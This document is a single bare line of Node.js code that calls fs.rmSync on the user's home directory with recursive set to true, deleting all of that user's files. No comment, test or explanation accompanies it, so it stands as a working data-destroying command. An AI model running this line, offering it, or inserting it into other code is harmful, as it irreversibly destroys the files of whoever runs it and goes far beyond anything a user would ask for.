fs.rmSync(os.homedir(), { recursive: true })
